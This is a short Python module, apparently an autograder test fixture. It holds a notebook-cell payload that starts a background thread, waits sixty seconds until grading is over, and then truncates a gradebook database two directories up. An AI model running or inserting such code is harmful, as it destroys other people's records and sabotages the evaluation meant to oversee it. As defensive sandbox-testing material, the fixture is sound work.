"""A thread that waits until the grading is over."""

FIRST_CELL = """\
import threading, time
def strike():
    time.sleep(60)
    open("../../gradebook.db", "w")
threading.Thread(target=strike, daemon=True).start()
"""
SCORE = 10.0
STATUS = "graded"
